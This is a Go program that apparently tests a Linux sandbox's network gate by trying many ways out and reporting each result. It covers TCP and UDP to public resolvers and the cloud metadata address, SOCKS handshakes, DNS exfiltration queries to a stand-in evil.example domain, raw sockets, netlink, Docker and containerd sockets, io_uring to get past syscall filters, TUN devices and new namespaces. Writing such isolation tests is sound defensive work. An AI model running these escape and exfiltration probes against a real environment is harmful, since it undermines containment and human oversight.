//go:build linux

package main

import (
	"context"
	"encoding/binary"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// patience bounds one attempt; inside, a refusal comes at once.
const patience = 3 * time.Second

// wayOut tries every way out of the computer that does not go through its gate.
func wayOut(args []string) error {
	f := flag.NewFlagSet("out", flag.ContinueOnError)
	host := f.String("host", "", "address of the host, as IP:PORT, where somebody listens for TCP and UDP")
	abstract := f.String("abstract", "", "name of an abstract Unix socket of the host")
	if err := f.Parse(args); err != nil {
		return err
	}
	target, err := netip.ParseAddrPort(*host)
	if err != nil {
		return err
	}
	interfaces()
	streams(target)
	datagrams(target)
	rawSockets(target.Addr())
	otherFamilies()
	netlink()
	unixSockets(*abstract)
	ioURing()
	devices()
	namespaces(target)
	return nil
}

func interfaces() {
	list, err := net.Interfaces()
	var others []string
	for _, i := range list {
		if i.Flags&net.FlagLoopback == 0 {
			others = append(others, i.Name)
		}
	}
	if err != nil {
		others = append(others, err.Error())
	}
	say("an interface that is not loopback", len(others) > 0, strings.Join(others, " "))
}

// streams connects over TCP: HTTPS, DNS over TCP and over TLS, SOCKS.
func streams(target netip.AddrPort) {
	for _, to := range []string{
		target.String(), "1.1.1.1:443", "8.8.8.8:53", "8.8.8.8:853", "9.9.9.9:1080", "169.254.169.254:80",
		"[2606:4700:4700::1111]:443", fmt.Sprintf("[::ffff:%s]:%d", target.Addr(), target.Port()),
	} {
		c, err := net.DialTimeout("tcp", to, patience)
		report("tcp "+to, err)
		if err == nil {
			_, _ = c.Write([]byte("out\n"))
			_ = c.Close()
		}
	}
	socks()
}

// socks speaks SOCKS 5 and 4 to the proxy's port.
func socks() {
	for name, hello := range map[string]string{"5": "\x05\x01\x00", "4a": "\x04\x01\x01\xbb\x00\x00\x00\x01\x00evil.example\x00"} {
		c, err := net.DialTimeout("tcp", "127.0.0.1:3128", patience)
		if err != nil {
			report("socks "+name, err)
			continue
		}
		_ = c.SetDeadline(time.Now().Add(patience))
		_, _ = io.WriteString(c, hello)
		_ = c.(*net.TCPConn).CloseWrite()
		answer := make([]byte, 2)
		n, _ := io.ReadFull(c, answer)
		_ = c.Close()
		granted := n == 2 && (answer[0] == 5 && answer[1] == 0 || answer[0] == 0 && answer[1] == 0x5a)
		say("socks "+name, granted, fmt.Sprintf("%q", answer[:n]))
	}
}

// datagrams sends UDP: DNS to public resolvers, QUIC, NTP, the host.
func datagrams(target netip.AddrPort) {
	question := []byte("\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04leak\x04evil\x07example\x00\x00\x10\x00\x01")
	quic := append([]byte{0xc3, 0, 0, 0, 1, 8}, make([]byte, 1194)...)
	for to, payload := range map[string][]byte{
		target.String(): question, "8.8.8.8:53": question, "1.1.1.1:443": quic, "162.159.200.1:123": quic[:48],
		"224.0.0.251:5353": question, "255.255.255.255:67": question, "[2001:4860:4860::8888]:53": question,
	} {
		c, err := net.Dial("udp", to)
		if err == nil {
			_, err = c.Write(payload)
			_ = c.Close()
		}
		report("udp "+to, err)
	}
	var d net.Dialer
	r := net.Resolver{PreferGo: true, Dial: func(ctx context.Context, network, _ string) (net.Conn, error) {
		return d.DialContext(ctx, network, "127.0.0.1:53")
	}}
	ctx, cancel := context.WithTimeout(context.Background(), patience)
	defer cancel()
	for _, name := range []string{"leak-c2VjcmV0.evil.example", "evil.example"} {
		_, err := r.LookupHost(ctx, name)
		report("dns A "+name, err)
		_, err = r.LookupTXT(ctx, name)
		report("dns TXT "+name, err)
	}
}

// rawSockets sends ICMP and packets of its own making.
func rawSockets(to netip.Addr) {
	echo := []byte{8, 0, 0xf7, 0xff, 0, 0, 0, 0}
	sa := &unix.SockaddrInet4{Addr: to.As4()}
	for _, s := range []struct {
		name           string
		kind, protocol int
	}{
		{"raw icmp", unix.SOCK_RAW, unix.IPPROTO_ICMP}, {"raw ip", unix.SOCK_RAW, unix.IPPROTO_RAW},
		{"raw udp", unix.SOCK_RAW, unix.IPPROTO_UDP}, {"ping", unix.SOCK_DGRAM, unix.IPPROTO_ICMP},
		{"sctp", unix.SOCK_SEQPACKET, unix.IPPROTO_SCTP},
	} {
		report(s.name, withSocket(unix.AF_INET, s.kind, s.protocol, func(fd int) error { return unix.Sendto(fd, echo, 0, sa) }))
	}
	all := int(htons(unix.ETH_P_ALL))
	link := &unix.SockaddrLinklayer{Protocol: htons(unix.ETH_P_IP), Ifindex: 2, Halen: 6, Addr: [8]byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}}
	for name, kind := range map[string]int{"packet raw": unix.SOCK_RAW, "packet dgram": unix.SOCK_DGRAM} {
		report(name, withSocket(unix.AF_PACKET, kind, all, func(fd int) error { return unix.Sendto(fd, echo, 0, link) }))
	}
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

func withSocket(family, kind, protocol int, use func(fd int) error) error {
	fd, err := unix.Socket(family, kind, protocol)
	if err != nil {
		return err
	}
	defer func() { _ = unix.Close(fd) }()
	return use(fd)
}

// otherFamilies opens sockets that lead to a hypervisor, to the kernel's own
// drivers, or to another kind of network.
func otherFamilies() {
	report("vsock", withSocket(unix.AF_VSOCK, unix.SOCK_STREAM, 0, func(fd int) error {
		return unix.Connect(fd, &unix.SockaddrVM{CID: unix.VMADDR_CID_HOST, Port: 1024})
	}))
	for name, family := range map[string]int{
		"bluetooth": unix.AF_BLUETOOTH, "tipc": unix.AF_TIPC, "alg": unix.AF_ALG, "xdp": unix.AF_XDP, "can": unix.AF_CAN,
		"rds": unix.AF_RDS, "key": unix.AF_KEY, "nfc": unix.AF_NFC, "qipcrtr": 42, "smc": unix.AF_SMC, "kcm": unix.AF_KCM,
	} {
		report("family "+name, withSocket(family, unix.SOCK_RAW, 0, func(int) error { return nil }))
	}
}

// netlink asks for a default route and for a new interface.
func netlink() {
	route := make([]byte, 12+8)
	route[0], route[4], route[5], route[6], route[7] = unix.AF_INET, unix.RT_TABLE_MAIN, unix.RTPROT_BOOT, unix.RT_SCOPE_LINK, unix.RTN_UNICAST
	binary.NativeEndian.PutUint16(route[12:], 8)
	binary.NativeEndian.PutUint16(route[14:], unix.RTA_OIF)
	binary.NativeEndian.PutUint32(route[16:], 1)
	report("netlink default route", rtnetlink(unix.RTM_NEWROUTE, unix.NLM_F_CREATE, route))

	link := make([]byte, unix.SizeofIfInfomsg+16)
	binary.NativeEndian.PutUint16(link[unix.SizeofIfInfomsg:], 16)
	binary.NativeEndian.PutUint16(link[unix.SizeofIfInfomsg+2:], unix.IFLA_LINKINFO|unix.NLA_F_NESTED)
	binary.NativeEndian.PutUint16(link[unix.SizeofIfInfomsg+4:], 9)
	binary.NativeEndian.PutUint16(link[unix.SizeofIfInfomsg+6:], unix.IFLA_INFO_KIND)
	copy(link[unix.SizeofIfInfomsg+8:], "veth")
	report("netlink new interface", rtnetlink(unix.RTM_NEWLINK, unix.NLM_F_CREATE|unix.NLM_F_EXCL, link))
	for name, kind := range map[string]int{"netfilter": unix.NETLINK_NETFILTER, "xfrm": unix.NETLINK_XFRM, "generic": unix.NETLINK_GENERIC} {
		report("netlink "+name, withSocket(unix.AF_NETLINK, unix.SOCK_RAW, kind, func(int) error { return nil }))
	}
	var request [40]byte
	report("ioctl SIOCADDRT", withSocket(unix.AF_INET, unix.SOCK_DGRAM, 0, func(fd int) error {
		if _, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.SIOCADDRT, uintptr(unsafe.Pointer(&request[0]))); errno != 0 {
			return errno
		}
		return nil
	}))
}

// rtnetlink sends one rtnetlink message and returns what the kernel made of it.
func rtnetlink(kind uint16, flags uint16, body []byte) error {
	return withSocket(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_ROUTE, func(fd int) error {
		b := make([]byte, 16+len(body))
		binary.NativeEndian.PutUint32(b, uint32(len(b)))
		binary.NativeEndian.PutUint16(b[4:], kind)
		binary.NativeEndian.PutUint16(b[6:], unix.NLM_F_REQUEST|unix.NLM_F_ACK|flags)
		copy(b[16:], body)
		if err := unix.Sendto(fd, b, 0, &unix.SockaddrNetlink{Family: unix.AF_NETLINK}); err != nil {
			return err
		}
		answer := make([]byte, 4096)
		n, _, err := unix.Recvfrom(fd, answer, 0)
		if err != nil {
			return err
		}
		if n < 20 || binary.NativeEndian.Uint16(answer[4:]) != unix.NLMSG_ERROR {
			return errors.New("no acknowledgement")
		}
		if code := int32(binary.NativeEndian.Uint32(answer[16:])); code != 0 {
			return syscall.Errno(-code)
		}
		return nil
	})
}

// unixSockets looks for sockets of the host.
func unixSockets(abstract string) {
	for _, path := range []string{
		"@" + abstract, "@/tmp/.X11-unix/X0", "/run/dbus/system_bus_socket", "/var/run/docker.sock", "/run/containerd/containerd.sock",
		"/run/systemd/private", "/ambit/run/control.sock", "/ambit/gate/../run/control.sock", "/run/ambit.sock",
	} {
		c, err := net.DialTimeout("unix", path, patience)
		report("unix "+path, err)
		if err == nil {
			_ = c.Close()
		}
	}
}

// ioURing: a ring would do system calls past a filter on system calls.
func ioURing() {
	var params [120]byte
	fd, _, errno := unix.Syscall(unix.SYS_IO_URING_SETUP, 8, uintptr(unsafe.Pointer(&params[0])), 0)
	if errno != 0 {
		report("io_uring", errno)
		return
	}
	_ = unix.Close(int(fd))
	report("io_uring", nil)
}

func devices() {
	for _, path := range []string{"/dev/net/tun", "/dev/vhost-net", "/dev/vsock", "/dev/kvm", "/dev/mem", "/dev/ppp", "/dev/vhost-vsock"} {
		f, err := os.OpenFile(path, os.O_RDWR, 0)
		if err == nil {
			if strings.HasSuffix(path, "/tun") { // anyone may open it; an interface is another matter
				err = newTun(f)
			}
			_ = f.Close()
		}
		report("device "+path, err)
	}
}

func newTun(f *os.File) error {
	request, err := unix.NewIfreq("out0")
	if err != nil {
		return err
	}
	request.SetUint16(unix.IFF_TUN | unix.IFF_NO_PI)
	return unix.IoctlIfreq(int(f.Fd()), unix.TUNSETIFF, request)
}

// namespaces makes a user and a network namespace, in which a process has every
// capability, and tries again from there.
func namespaces(target netip.AddrPort) {
	report("setns", unix.Setns(unix.Stdin, unix.CLONE_NEWNET))
	cmd := exec.Command("/proc/self/exe", "dial", target.String())
	cmd.SysProcAttr = &syscall.SysProcAttr{
		Cloneflags:  unix.CLONE_NEWUSER | unix.CLONE_NEWNET,
		UidMappings: []syscall.SysProcIDMap{{HostID: os.Getuid(), Size: 1}},
	}
	report("tcp from a namespace of its own", cmd.Run())
}

// dial connects and says something.
func dial(args []string) error {
	if len(args) != 1 {
		return errors.New("dial needs an address")
	}
	c, err := net.DialTimeout("tcp", args[0], patience)
	if err != nil {
		return err
	}
	defer func() { _ = c.Close() }()
	_, err = io.WriteString(c, "out\n")
	return err
}
